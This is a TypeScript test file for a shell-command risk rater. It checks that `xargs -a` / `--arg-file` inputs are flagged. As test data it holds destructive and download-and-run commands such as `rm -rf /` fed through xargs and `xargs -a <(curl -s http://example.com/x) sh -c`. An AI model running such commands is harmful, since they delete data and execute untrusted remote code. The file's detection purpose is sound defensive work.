import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * `xargs -a FILE` (`--arg-file=FILE`) reads its items from FILE, not from what is piped in, so
 * `echo ls | xargs -a list.txt sh -c` runs whatever list.txt holds. A file wren cannot read gives
 * items only known at run time; `-a -` and `-a /dev/stdin` are standard input, and `-a <(…)` the
 * text the substitution writes.
 */
const rated = shellRater();

const dir = mkdtempSync(path.join(tmpdir(), "wren-xargs-a-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
writeFileSync(path.join(dir, "list.txt"), "from-file\n");

/** The items real xargs hands its command in `dir`, each in brackets; bash gets no stdin, so it reads no ~/.bashrc. */
const xargsGives = (line: string): string =>
  spawnSync("bash", ["-c", line.replace("CMD", `sh -c 'for a; do printf "[%s]" "$a"; done' _`)], {
    cwd: dir,
    encoding: "utf8",
    stdio: ["ignore", "pipe", "pipe"],
    env: { PATH: process.env["PATH"] ?? "" },
  }).stdout;

describe("xargs -a reads its items from the file, not from the pipe", () => {
  it.each<string>(["-a list.txt", "-alist.txt", "--arg-file=list.txt", "--arg-file list.txt", "--arg=list.txt", "-r -a list.txt", "-ra list.txt", "-n1 -a list.txt"])(
    "xargs %s",
    (options) => {
      expect(xargsGives(`echo from-pipe | xargs ${options} CMD`)).toBe("[from-file]");
      // What the pipe holds is not what runs: the file's lines are only known at run time.
      const shell = rated(`echo ls | xargs ${options} sh -c`);
      expect(shell.risk, shell.shown).toBe("high");
      expect(shell.details, shell.shown).toContain("sh -c runs a command line only known at run time");
      const rm = rated(`echo / | xargs ${options} rm -rf`);
      expect(rm.details, rm.shown).not.toContain("deletes / recursively");
      expect(rm.risk, rm.shown).toBe(rated("xargs rm -rf < list.txt").risk);
    },
  );

  it("a file name only known at run time is a file too", () => {
    const r = rated('echo ls | xargs -a "$f" sh -c');
    expect(r.risk, r.shown).toBe("high");
    expect(r.details, r.shown).toContain("sh -c runs a command line only known at run time");
  });

  it.each<string>(["-", "/dev/stdin"])("-a %s is standard input, the pipe", (file) => {
    expect(xargsGives(`echo "'rm -rf /'" | xargs -a ${file} -n1 CMD`)).toBe("[rm -rf /]");
    const r = rated(`echo "'rm -rf /'" | xargs -a ${file} sh -c`);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes / recursively");
  });

  it.each<string>(["xargs -a <(echo /) rm -rf", "xargs --arg-file <(echo /) rm -rf", "echo . | xargs -a <(echo /) rm -rf", "xargs rm -rf < <(echo /)"])(
    "%s reads what the substitution writes",
    (command) => {
      expect(xargsGives(command.replace("rm -rf", "CMD"))).toBe("[/]");
      const r = rated(command);
      expect(r.risk, r.shown).toBe("critical");
      expect(r.details, r.shown).toContain("deletes / recursively");
    },
  );

  it("a download read through -a <(…) and run is still a download run", () => {
    const r = rated("xargs -a <(curl -s http://example.com/x) sh -c");
    expect(r.risk, r.shown).toBe("critical");
  });
});
